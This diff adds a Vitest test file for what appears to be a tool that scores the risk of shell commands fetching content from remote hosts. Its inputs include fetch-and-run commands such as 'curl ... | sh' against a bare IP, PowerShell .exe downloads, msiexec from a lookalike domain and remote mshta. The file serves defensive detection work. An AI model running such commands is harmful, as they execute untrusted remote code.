@@ -1,0 +1,42 @@
+import { describe, expect, it } from "vitest";
+import { builtinCatalog } from "../catalog/load.ts";
+import { explain } from "../pipeline/explain.ts";
+
+const verdict = (commandLine: string, platform: "windows" | "linux" = "windows") =>
+  explain({ commandLine, platform }, builtinCatalog()).explanation.verdict;
+
+describe("what comes from another machine", () => {
+  it("weighs more where that machine has no name", () => {
+    const named = verdict("curl -s http://files.example.net/a | sh", "linux");
+    const bare = verdict("curl -s http://203.0.113.7/a | sh", "linux");
+    expect(bare.score).toBeGreaterThan(named.score);
+    expect(bare.text).toContain("that has no name");
+  });
+
+  it("weighs less where it runs nothing by itself, unless the machine has no name", () => {
+    const fetch = (host: string, name: string) =>
+      verdict(`powershell Invoke-WebRequest -Uri https://${host}/${name} -OutFile ${name}`).score;
+    expect(fetch("files.example.net", "a.zip")).toBeLessThan(fetch("files.example.net", "a.exe"));
+    expect(fetch("files.example.net", "a.zip?x=.exe")).toBeLessThan(fetch("files.example.net", "a.exe?x=.zip"));
+    expect(fetch("203.0.113.7", "a.zip")).toBe(fetch("203.0.113.7", "a.exe"));
+  });
+
+  it("is judged by its worst", () => {
+    const both =
+      "powershell iwr https://files.example.net/a.zip -OutFile a.zip; iwr https://files.example.net/a.exe -OutFile a.exe";
+    expect(verdict(both).level).toBe("medium");
+  });
+
+  it("is ordinary from its maker, but not for a program that runs hostile things", () => {
+    expect(verdict("msiexec /i https://nodejs.org/dist/v22.0.0/node-v22.0.0-x64.msi").level).toBe("low");
+    expect(verdict("msiexec /i https://nodejs.org.example.net/node.msi").level).toBe("critical");
+    expect(verdict("mshta https://nodejs.org/a.hta").level).toBe("critical");
+  });
+
+  it("is not the machine itself", () => {
+    expect(verdict("powershell Invoke-WebRequest http://localhost:8080/health").text).not.toContain("from the web");
+    expect(verdict("powershell Invoke-WebRequest http://localhost.example.net/a.exe -OutFile a.exe").level).toBe(
+      "medium",
+    );
+  });
+});
